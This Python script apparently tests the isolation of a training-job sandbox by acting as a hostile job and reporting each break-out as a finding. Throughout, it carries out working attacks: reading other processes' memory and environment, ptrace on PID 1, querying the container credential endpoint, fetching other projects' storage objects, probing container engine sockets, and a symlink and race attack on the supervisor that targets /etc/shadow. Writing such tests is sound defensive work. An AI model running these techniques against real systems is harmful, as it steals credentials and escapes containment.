"""What a hostile training tries in the job image. Prints what it got; every line that starts with GOT is a finding."""

import ctypes
import glob
import os
import socket
import stat
import sys
import time
import urllib.error
import urllib.request

SECRETS = [secret.encode() for secret in sys.argv[1].split(',')]
S3_URL, FOREIGN_KEYS, CREDENTIALS = sys.argv[2], sys.argv[3].split(','), 'http://169.254.170.2'
tried = 0


def report(kind, where, content=b''):
    found = any(secret in content for secret in SECRETS)
    print('GOT' if found else 'harmless', kind, where, flush=True)


def attempt(kind, where, action):
    """Runs an action; whatever bytes it returns are searched for the secrets."""
    global tried
    tried += 1
    try:
        content = action()
    except (OSError, ValueError) as error:
        print('refused', kind, where, type(error).__name__, flush=True)
        return
    if content is not None:
        report(kind, where, content)


def read(path, most=8_000_000):
    # A fifo or device would wait for ever.
    handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(handle, most)
    finally:
        os.close(handle)


# 1. Its own environment and rights.
report('environment', 'own', '\n'.join(f'{name}={value}' for name, value in os.environ.items()).encode())
for name in os.environ:
    if name.startswith(('AWS_', 'ECS_')) and name != 'AWS_BATCH_JOB_ID':
        print('GOT variable', name, flush=True)
status = dict(line.split(':\t', 1) for line in open('/proc/self/status').read().splitlines() if ':\t' in line)
for name in ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb'):
    if int(status[name], 16) != 0:
        print('GOT capability', name, status[name], flush=True)
if status['NoNewPrivs'] != '1' or os.getuid() == 0 or os.getgroups():
    print('GOT rights', status['NoNewPrivs'], os.getuid(), os.getgroups(), flush=True)

# 2. Every other process: PID 1, the supervisor.
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
for folder in glob.glob('/proc/[0-9]*'):
    pid = int(folder.rsplit('/', 1)[1])
    try:
        if os.stat(folder).st_uid == os.getuid():
            continue
    except OSError:
        continue
    for name in ('environ', 'maps', 'mem', 'cmdline', 'stack', 'auxv'):
        attempt('process', f'{folder}/{name}', lambda path=f'{folder}/{name}': read(path))
    for name in ('cwd', 'root', 'exe'):
        attempt('process', f'{folder}/{name}', lambda path=f'{folder}/{name}': os.readlink(path).encode())
    attempt('process', f'{folder}/fd', lambda path=f'{folder}/fd': os.listdir(path) and b'')
    attempt('file system of a process', folder, lambda path=f'{folder}/root/etc/shadow': read(path))
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        print('GOT ptrace', pid, flush=True)
    try:
        os.kill(pid, 0)
        print('GOT signal', pid, flush=True)
    except PermissionError:
        pass

# 3. The role's credentials: the path to them is the secret.
for path in ('/', '/v2/credentials', '/v2/credentials/', '/v2/metadata', '/v3/', '/v4/', '/v2/credentials/../credentials'):
    def ask(url=CREDENTIALS + path):
        try:
            return urllib.request.urlopen(url, timeout=5).read()
        except urllib.error.HTTPError as error:
            return error.read()
    attempt('credentials', path, ask)

# 4. Other projects' objects, without a signature.
for key in FOREIGN_KEYS + ['', '?list-type=2']:
    attempt('object', key, lambda url=f'{S3_URL}/{key}': urllib.request.urlopen(url, timeout=5).read())

# 5. Every file that can be read, the supervisor's working folders included, and every place that can be written.
for top in ('/etc', '/home', '/opt', '/root', '/run', '/srv', '/tmp', '/var', '/dev/shm', '/usr/local'):
    for folder, folders, files in os.walk(top):
        if os.access(folder, os.W_OK) and not folder.startswith(os.environ['TMPDIR'].rsplit('/', 1)[0]):
            if not os.stat(folder).st_mode & stat.S_ISVTX:
                print('GOT writable folder', folder, flush=True)
        for name in files:
            path = os.path.join(folder, name)
            try:
                content = read(path) if not os.path.islink(path) else b''
            except OSError:
                continue
            tried += 1
            if any(secret in content for secret in SECRETS) and path != os.path.abspath(sys.argv[0]):
                print('GOT file', path, flush=True)
for path in glob.glob('/usr/bin/*') + glob.glob('/usr/sbin/*') + glob.glob('/usr/local/bin/*'):
    if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID) and os.path.isfile(path):
        print('GOT set-id program', path, flush=True)

# 6. The sockets of a container engine.
for path in ('/var/run/docker.sock', '/run/containerd/containerd.sock'):
    attempt('socket', path, lambda: socket.socket(socket.AF_UNIX).connect(path))

# 7. Links, pipes and devices in the outputs, for the supervisor to follow with its rights.
others = sys.argv[4]
targets = ['/proc/1/environ', '/proc/self/environ', f'/proc/{os.getppid()}/environ', '/etc/shadow', others]
for variable in ('OUTPUT_DIR', 'CHECKPOINT_DIR'):
    folder = os.environ[variable]
    for index, target in enumerate(targets):
        os.symlink(target, f'{folder}/symlink-{index}')
        attempt('hard link', target, lambda: os.link(target, f'{folder}/hardlink-{index}', follow_symlinks=False))
    os.symlink('/etc', f'{folder}/folder')
    os.symlink('/proc/1', f'{folder}/process')
    os.mkfifo(f'{folder}/pipe')
    attempt('device', folder, lambda: os.mknod(f'{folder}/device', stat.S_IFCHR | 0o666, os.makedev(1, 1)))
    socket.socket(socket.AF_UNIX).bind(f'{folder}/socket')
    with open(f'{folder}/honest.txt', 'w') as honest:
        honest.write('honest')
os.symlink('/proc/1/environ', os.environ['METRICS_FILE'])

# 8. A file that is a link at the next moment, while the supervisor looks.
flips = 0
until = time.monotonic() + 4
path = os.environ['OUTPUT_DIR'] + '/flip'
while time.monotonic() < until:
    with open(path + '.next', 'w') as honest:
        honest.write('honest')
    os.rename(path + '.next', path)
    os.symlink(targets[flips % len(targets)], path + '.next')
    os.rename(path + '.next', path)
    flips += 1
os.unlink(path)

print('tried', tried, 'things', flush=True)
